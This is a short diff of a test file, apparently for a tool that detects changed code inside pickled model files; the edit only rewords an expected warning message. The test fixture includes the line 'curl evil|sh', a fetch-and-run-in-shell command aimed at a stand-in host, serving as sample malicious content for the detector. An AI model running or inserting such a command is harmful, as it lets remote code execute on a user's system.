@@ -241,7 +241,7 @@ describe("what else a model says", () => {
     };
     const result = await diff([await code("echo 1")], [await code("curl evil|sh")]);
     expect(result.code).toMatchObject([{ path: "m.pkl", newImports: [] }]);
-    expect(diffMarkdown(result)).toContain("its content changed and may be other code");
+    expect(diffMarkdown(result)).toContain("its content changed and may be different code");
     expect((await diff([await code("echo 1")], [await code("echo 1")])).code).toEqual([]);
   });
 
